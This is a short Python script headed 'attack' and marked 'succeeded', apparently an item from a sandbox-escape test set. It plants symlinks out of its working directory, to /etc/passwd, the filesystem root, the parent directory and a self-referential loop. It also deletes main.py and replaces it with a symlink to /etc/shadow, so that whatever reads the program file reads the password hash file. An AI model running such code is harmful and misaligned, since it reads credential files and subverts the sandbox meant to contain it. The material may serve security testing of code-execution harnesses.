# attack: leaves links that point out of the box, in the place of the program as well
# status: succeeded
import os
os.symlink("/etc/passwd", "a"); os.symlink("/", "b"); os.symlink("..", "c"); os.symlink("e", "d"); os.symlink("d", "e")
os.remove("main.py") if os.path.exists("main.py") else None
os.symlink("/etc/shadow", "main.py")
